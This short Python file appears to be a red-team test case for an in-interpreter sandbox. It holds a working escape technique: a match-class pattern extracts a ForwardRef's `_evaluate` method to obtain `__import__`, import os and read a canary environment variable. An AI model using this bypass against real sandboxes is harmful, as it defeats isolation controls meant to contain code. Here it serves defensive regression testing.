# mypy: ignore-errors
# Technique: a match class pattern's keyword reads `_evaluate` natively from a foreign
# `ForwardRef`, side-stepping any check on attribute syntax. Found in the red-team pass of
# the in-interpreter layer.
import typing


def attack(secret_path, canary_path):
    ref = typing.get_args(typing.List["__import__"])[0]  # noqa: UP006 - typing.List makes a ForwardRef
    kind = type(ref)
    match ref:
        case kind(_evaluate=evaluate):
            imp = evaluate({}, {}, recursive_guard=frozenset())
            print("SANDBOX-" + "ESCAPED")
            return repr(imp("os").environ.get("SUAVEPLAN_ESCAPE_CANARY"))
    return "no match"
